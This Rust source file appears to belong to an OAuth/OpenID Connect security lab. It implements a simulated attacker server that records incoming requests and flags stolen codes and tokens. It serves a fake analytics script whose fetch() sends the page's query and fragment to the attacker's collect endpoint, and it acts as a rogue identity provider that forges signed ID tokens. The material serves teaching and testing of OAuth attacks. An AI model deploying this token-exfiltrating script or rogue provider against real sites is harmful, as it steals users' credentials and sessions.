//! The attacker's site: it writes down everything that comes in, serves the page that an exploit
//! prepares, and pretends to be a provider.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use askama::Template;
use auth_core::jwks::JwkSet;
use auth_core::jwt::{Algorithm, IdTokenClaims, JWT_TYPE, SigningKey};
use auth_core::params::Params;
use auth_core::secret::random_token;
use axum::Router;
use axum::body::Bytes;
use axum::extract::{RawQuery, State};
use axum::response::{IntoResponse, Response};
use axum::routing::{any, get};
use http::{HeaderMap, Method, StatusCode, Uri, header};
use serde_json::json;
use url::Url;

use super::authorization_server::ALBUM;
use super::{World, page};
use crate::lock;

#[derive(Default)]
pub(crate) struct Store {
    /// `page`, `authorize`, `token-response`, `stall`: what an exploit has prepared.
    prepared: Mutex<HashMap<&'static str, String>>,
    received: Mutex<Vec<Received>>,
    nonce: Mutex<String>,
    key: Mutex<Option<SigningKey>>,
}

/// A request that came in.
#[derive(Clone)]
struct Received {
    /// All of it, on one line.
    line: String,
    /// Method and path.
    what: String,
    /// Query and form.
    params: Vec<(String, String)>,
}

/// What a room looks at: what has arrived.
#[derive(Template)]
#[template(path = "attacker_received.html")]
struct Notebook {
    heading: &'static str,
    all: Vec<Received>,
    /// Everything, or what came just now.
    whole: bool,
}

/// A page that an exploit has prepared, as it is.
#[derive(Template)]
#[template(path = "attacker_page.html")]
struct Prepared {
    inside: String,
}

/// Whether this parameter is worth stealing. What a script finds where nothing is, is `null`.
fn is_secret(name: &str, value: &str) -> bool {
    value != "null"
        && ["code", "code_verifier", "access_token", "id_token", "token", "password"].contains(&name)
}

impl Store {
    pub(crate) fn prepare(&self, key: &'static str, value: String) {
        lock(&self.prepared).insert(key, value);
    }

    pub(crate) fn log(&self) -> Vec<String> {
        lock(&self.received).iter().map(|received| received.line.clone()).collect()
    }

    /// The latest value of a parameter that came in, of a query, a form or a reported fragment.
    pub(crate) fn received(&self, name: &str) -> Option<String> {
        let all = lock(&self.received);
        let pairs = all.iter().rev().flat_map(|received| received.params.iter());
        pairs.into_iter().find(|(key, _)| key == name).map(|(_, value)| value.clone())
    }

    fn prepared(&self, key: &str) -> Option<String> {
        lock(&self.prepared).get(key).cloned()
    }

    fn write_down(&self, method: &Method, uri: &Uri, body: &Bytes) -> Received {
        let body = String::from_utf8_lossy(body);
        let pairs =
            |text: &str| url::form_urlencoded::parse(text.as_bytes()).into_owned().collect::<Vec<_>>();
        let mut params = pairs(uri.query().unwrap_or_default());
        params.extend(pairs(&body));
        let line = format!("{method} {uri} {body}").trim_end().to_owned();
        let received = Received { line, what: format!("{method} {}", uri.path()), params };
        lock(&self.received).push(received.clone());
        received
    }

    /// The key of the attacker's own provider, made when it is first needed.
    fn key(&self) -> Option<SigningKey> {
        let mut key = lock(&self.key);
        if key.is_none() {
            *key = SigningKey::generate(Algorithm::ES256).ok();
        }
        key.clone()
    }
}

pub(super) fn routes() -> Router<Arc<World>> {
    Router::new()
        .route("/page", get(page))
        .route("/analytics.js", get(analytics))
        .route("/authorize", get(authorize))
        .route("/token", any(token))
        .route("/jwks.json", get(jwks))
        .route("/log", get(log))
        .route("/", any(write_down))
        .route("/{*anything}", any(write_down))
        .merge(page::assets())
}

/// Every other path: written down, and answered politely.
async fn write_down(State(world): State<Arc<World>>, method: Method, uri: Uri, body: Bytes) -> Response {
    let received = world.live().attacker.write_down(&method, &uri, &body);
    let notebook = Notebook { heading: "Mallory has written that down", all: vec![received], whole: false };
    page::wide_page(StatusCode::OK, "Quiz night", &notebook)
}

/// Everything that came in: a page for a browser, lines for a program.
async fn log(State(world): State<Arc<World>>, headers: HeaderMap) -> Response {
    let live = world.live();
    let accept = headers.get(header::ACCEPT).and_then(|accept| accept.to_str().ok());
    if !accept.is_some_and(|accept| accept.contains("text/html")) {
        return page::json(StatusCode::OK, &json!(live.attacker.log()));
    }
    let mut all = lock(&live.attacker.received).clone();
    // The prey is what came last.
    all.reverse();
    let notebook = Notebook { heading: "Mallory's notebook", all, whole: true };
    page::wide_page(StatusCode::OK, "Mallory's notebook", &notebook)
}

async fn page(State(world): State<Arc<World>>) -> Response {
    let inside = world.live().attacker.prepared("page").unwrap_or_default();
    page::page(StatusCode::OK, "Quiz night", &Prepared { inside })
}

/// "Statistics": the whole address of the page that loads this, fragment and all.
async fn analytics(State(world): State<Arc<World>>) -> Response {
    let collect = format!("{}/collect", world.urls.attacker);
    let script = format!(
        "fetch('{collect}?' + location.search.slice(1) + '&' + location.hash.slice(1), {{ mode: 'no-cors' }});\n"
    );
    ([(header::CONTENT_TYPE, "text/javascript")], script).into_response()
}

/// The attacker's authorization endpoint: answers at once, or leads wherever the exploit wants.
async fn authorize(State(world): State<Arc<World>>, RawQuery(query): RawQuery, uri: Uri) -> Response {
    let live = world.live();
    live.attacker.write_down(&Method::GET, &uri, &Bytes::new());
    if let Some(elsewhere) = live.attacker.prepared("authorize") {
        let original = query.unwrap_or_default();
        return page::see_other(&elsewhere.replace("{query}", &original));
    }
    let params = Params::parse(query.unwrap_or_default().as_bytes()).unwrap_or_default();
    params.get("nonce").unwrap_or_default().clone_into(&mut lock(&live.attacker.nonce));
    let answer = [
        ("code", "made-up"),
        ("state", params.get("state").unwrap_or_default()),
        ("iss", &world.urls.attacker),
    ];
    match Url::parse_with_params(params.get("redirect_uri").unwrap_or_default(), answer) {
        Ok(url) => page::see_other(url.as_str()),
        Err(_) => StatusCode::BAD_REQUEST.into_response(),
    }
}

/// The attacker's token endpoint: what the exploit has prepared, or an honest answer.
async fn token(State(world): State<Arc<World>>, method: Method, uri: Uri, body: Bytes) -> Response {
    let live = world.live();
    live.attacker.write_down(&method, &uri, &body);
    if live.attacker.prepared("stall").is_some() {
        tokio::time::sleep(Duration::from_secs(60)).await;
    }
    let nonce = lock(&live.attacker.nonce).clone();
    if let Some(prepared) = live.attacker.prepared("token-response") {
        return ([(header::CONTENT_TYPE, "application/json")], prepared.replace("{nonce}", &nonce))
            .into_response();
    }
    let now = live.clock.now();
    let claims = IdTokenClaims {
        iss: world.urls.attacker.clone(),
        sub: "quiz-player".to_owned(),
        aud: ALBUM.into(),
        exp: now + Duration::from_secs(600),
        iat: now,
        nonce: Some(nonce),
        ..IdTokenClaims::default()
    };
    let id_token = live.attacker.key().and_then(|key| key.sign(JWT_TYPE, &claims).ok());
    let body = json!({ "access_token": random_token(), "token_type": "Bearer", "id_token": id_token });
    page::json(StatusCode::OK, &body)
}

async fn jwks(State(world): State<Arc<World>>) -> Response {
    let key = world.live().attacker.key().and_then(|key| key.public_jwk());
    let set = JwkSet { keys: key.into_iter().collect() };
    page::json(StatusCode::OK, &serde_json::to_value(&set).unwrap_or_default())
}
